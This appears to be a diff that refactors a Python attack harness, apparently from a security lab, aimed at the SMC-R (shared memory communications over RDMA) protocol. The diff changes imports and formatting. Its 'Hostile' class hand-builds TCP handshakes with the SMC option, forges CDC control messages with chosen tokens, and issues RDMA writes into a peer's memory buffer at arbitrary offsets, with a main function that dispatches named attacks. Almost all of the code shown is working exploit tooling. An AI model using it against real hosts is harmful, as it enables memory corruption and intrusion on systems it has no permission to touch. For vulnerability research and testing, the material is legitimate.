@@ -11,8 +11,7 @@ import subprocess
 import sys
 import time
 
-sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
-import rawtcp  # noqa: E402
+from lab.rawtcp import SMC_OPTION, Connection, Wire, option_list
 
 SMCR = bytes.fromhex("e2d4c3d9")
 EID = b"SMC-AGENT.DEFAULT".ljust(32)
@@ -23,23 +22,21 @@ TOKEN = 0xBADC0DE
 
 class Tcp:
     def __init__(self, device, own, server, port, number=0):
-        self.wire = rawtcp.Wire(device, own)
+        self.wire = Wire(device, own)
         self.wire.learn(server)
-        peer = rawtcp.socket.inet_aton(server)
-        self.key = (peer, port, 40000 + os.getpid() % 20000 + number)
-        self.connection = rawtcp.Connection(self.wire, peer, self.key[2], port, {})
-        self.connection.out(rawtcp.SYN, bytes.fromhex(rawtcp.SMC_OPTION))
+        self.connection = Connection(self.wire, server, 40000 + os.getpid() % 20000 + number, port, {})
+        self.connection.out("S", option_list(bytes.fromhex(SMC_OPTION)))
 
     def pump(self, condition, timeout=10):
         end = time.monotonic() + timeout
         while not condition() and time.monotonic() < end:
-            segment = self.wire.poll(0.05)
-            if segment and (segment[0], segment[1], segment[2]) == self.key:
-                self.connection.take(segment[3], segment[5], segment[6], segment[7])
+            found = self.wire.poll(0.05)
+            if found and (found[0], found[1].sport, found[1].dport) == self.connection.key:
+                self.connection.take(found[1])
         return condition()
 
     def send(self, data):
-        self.connection.out(rawtcp.ACK | rawtcp.PSH, data=data)
+        self.connection.out("PA", data=data)
 
     def receive(self, size):
         if not self.pump(lambda: len(self.connection.received) >= size):
@@ -119,8 +116,9 @@ class Hostile:
         answer = self.roce.ask("connect", a[16:32].hex(), a[32:38].hex(), a[38:41].hex(), a[61:64].hex(), a[50] & 15)
         if answer != "ok":
             raise SystemExit(answer)
-        self.tcp.send(confirm(self.gid, self.mac, self.qpn if qpn is None else qpn, self.psn, self.rkey, self.address,
-                              a[50] & 15))
+        self.tcp.send(
+            confirm(self.gid, self.mac, self.qpn if qpn is None else qpn, self.psn, self.rkey, self.address, a[50] & 15)
+        )
 
     def link_up(self):
         self.first_contact()
@@ -146,17 +144,26 @@ class Hostile:
         self.sequence = 0
         self.cdc(token=token, producer=(0, 5))
         time.sleep(0.5)
-        tcp.send(confirm(self.gid, self.mac, self.qpn, self.psn, self.rkey, self.address, a[50] & 15, False, 2, TOKEN + 1))
+        tcp.send(
+            confirm(self.gid, self.mac, self.qpn, self.psn, self.rkey, self.address, a[50] & 15, False, 2, TOKEN + 1)
+        )
         return tcp, token
 
     def cdc(self, token=None, producer=(0, 0), consumer=(0, 0), flags=0, state=0, length=44):
         self.sequence += 1
-        message = struct.pack("!BBHI", 0xFE, length, self.sequence & 0xFFFF, self.peer_token if token is None else token)
-        message += b"\0\0" + struct.pack("!HI", *producer) + b"\0\0" + struct.pack("!HI", *consumer) + bytes([flags, state])
+        message = struct.pack(
+            "!BBHI", 0xFE, length, self.sequence & 0xFFFF, self.peer_token if token is None else token
+        )
+        message += (
+            b"\0\0" + struct.pack("!HI", *producer) + b"\0\0" + struct.pack("!HI", *consumer) + bytes([flags, state])
+        )
         return self.roce.send(message.ljust(44, b"\0"))
 
     def write(self, data, at=0, rkey=None):
-        return self.roce.ask("write", f"{self.peer_rkey if rkey is None else rkey:x}", f"{self.peer_rmbe + at:x}", data.hex())
+        return self.roce.ask(
+            "write", f"{self.peer_rkey if rkey is None else rkey:x}", f"{self.peer_rmbe + at:x}", data.hex()
+        )
+
 
 def main(attack, *arguments):
     h = Hostile(*arguments)
